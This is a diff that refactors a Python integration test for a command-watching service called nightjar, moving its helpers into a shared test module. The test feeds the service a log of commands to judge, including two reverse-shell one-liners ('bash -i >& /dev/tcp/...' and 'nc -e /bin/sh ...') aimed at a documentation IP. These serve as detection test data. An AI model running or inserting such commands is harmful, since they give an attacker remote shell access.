@@ -17,60 +17,24 @@ import json
 import os
 import shutil
 import signal
-import socket
 import sqlite3
 import subprocess
 import sys
 import tempfile
-import time
-import urllib.request
 
-BIN = os.environ.get("NJ_BIN", "build/nightjar")
-MODEL_DIR = os.environ.get("NIGHTJAR_TEST_MODEL_DIR", os.path.expanduser("~/.cache/nightjar/models"))
-MODEL = os.path.join(MODEL_DIR, "SmolLM2-135M-Instruct.Q4_1.gguf")
-DEADLINE = 600 if ("asan" in BIN or "tsan" in BIN) else 240
+sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "support"))
+import njtest  # noqa: E402
+from njtest import BIN, MODEL, SLOW, check  # noqa: E402
 
-passed = failed = 0
-
-
-def check(name, cond, detail=""):
-    global passed, failed
-    if cond:
-        passed += 1
-        print(f"ok   {name}")
-    else:
-        failed += 1
-        print(f"FAIL {name}" + (f": {detail}" if detail else ""))
-    return cond
-
-
-def free_port():
-    s = socket.socket()
-    s.bind(("127.0.0.1", 0))
-    p = s.getsockname()[1]
-    s.close()
-    return p
+DEADLINE = 600 if SLOW else 240
 
 
 def wait_for(cond, deadline=DEADLINE):
-    t = time.time() + deadline
-    while time.time() < t:
-        if cond():
-            return True
-        time.sleep(0.2)
-    return False
+    return njtest.wait_for(cond, deadline, 0.2)
 
 
 def http(port, path, body=None):
-    req = urllib.request.Request(f"http://127.0.0.1:{port}{path}", data=json.dumps(body).encode() if body else None,
-                                 headers={"Content-Type": "application/json"})
-    try:
-        with urllib.request.urlopen(req, timeout=DEADLINE) as r:
-            return r.status, r.read().decode()
-    except urllib.error.HTTPError as e:
-        return e.code, e.read().decode()
-    except OSError:
-        return 0, ""
+    return njtest.http(port, path, body, timeout=DEADLINE)
 
 
 def sink_ids(path):
@@ -89,31 +53,27 @@ def spool_counts(db):
 
 
 def main():
-    if not os.path.exists(MODEL):
-        print(f"skip: {MODEL} is not there (scripts/get-models)")
-        print("0 passed, 0 failed")
+    if njtest.model_missing():
         return 0
     tmp = tempfile.mkdtemp(prefix="nj-serve-watch-")
-    procs = []
     try:
         log, out, db = (os.path.join(tmp, n) for n in ("commands.log", "verdicts.jsonl", "spool.db"))
         open(log, "w").close()
-        port = free_port()
+        port = njtest.free_port()
         cfg = os.path.join(tmp, "config")
         with open(cfg, "w") as f:
             f.write(f"model = {MODEL}\nsocket = none\nport = {port}\nthreads = 1\nnice = 0\nidle_unload = 0\n"
                     f"watch = cmdline:{log}\nsink = jsonl:{out}\nspool_path = {db}\n")
-        slog = open(os.path.join(tmp, "serve.log"), "w")
+        slog = os.path.join(tmp, "serve.log")
 
         def start():
-            p = subprocess.Popen([BIN, "serve", "--config", cfg], stdout=slog, stderr=slog)
-            procs.append(p)
-            ok = wait_for(lambda: p.poll() is None and http(port, "/health")[0] == 200)
-            return p if ok else None
+            # one log for every run ("a+"): a restart keeps what the first run wrote
+            p = njtest.Server([BIN, "serve", "--config", cfg], slog, port=port, mode="a+")
+            return p if p.wait_ready(DEADLINE, step=0.2) else None
 
         p = start()
         if not check("serve starts with watch sources in its config", p is not None,
-                     open(os.path.join(tmp, "serve.log")).read()[-400:]):
+                     open(slog).read()[-400:]):
             return 1
         with open(log, "a") as f:
             f.write("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\nls -la /tmp\ngit status\n")
@@ -128,11 +88,7 @@ def main():
         st, body = http(port, "/v1/analyze", {"v": 1, "id": "api-1", "kind": "exec", "time": "2026-12-07T10:00:00Z",
                                               "source": {"format": "api"}, "process": {"cmdline": "uptime"}})
         check("/v1/analyze answers meanwhile", st == 200 and json.loads(body).get("event_id") == "api-1", body[:200])
-        p.send_signal(signal.SIGTERM)
-        try:
-            rc = p.wait(DEADLINE)
-        except subprocess.TimeoutExpired:
-            rc = None
+        rc = p.stop(signal.SIGTERM, DEADLINE)
         check("SIGTERM stops the service, watch included, with status 0", rc == 0)
         with open(log, "a") as f:
             f.write("uname -a\nnc -e /bin/sh 198.51.100.7 4444\n")
@@ -142,8 +98,8 @@ def main():
         check("lines written while it was down are judged after the restart", got, str(sink_ids(out)))
         ev, vt = spool_counts(db)
         check("nothing is read or judged twice", ev == 5 and vt == 5, f"{ev} events, {vt} verdicts")
-        p.send_signal(signal.SIGTERM)
-        p.wait(DEADLINE)
+        if p:
+            p.stop(signal.SIGTERM, DEADLINE)
 
         with open(cfg, "a") as f:
             f.write("watch = nosuch:/var/log/x\n")
@@ -151,13 +107,9 @@ def main():
         check("a bad watch source stops the start, naming it", r.returncode != 0 and "nosuch:/var/log/x" in r.stderr,
               r.stderr[-300:])
     finally:
-        for p in procs:
-            if p.poll() is None:
-                p.kill()
-                p.wait()
+        njtest.kill_all()
         shutil.rmtree(tmp, ignore_errors=True)
-    print(f"{passed} passed, {failed} failed")
-    return 1 if failed else 0
+    return njtest.summary()
 
 
 if __name__ == "__main__":
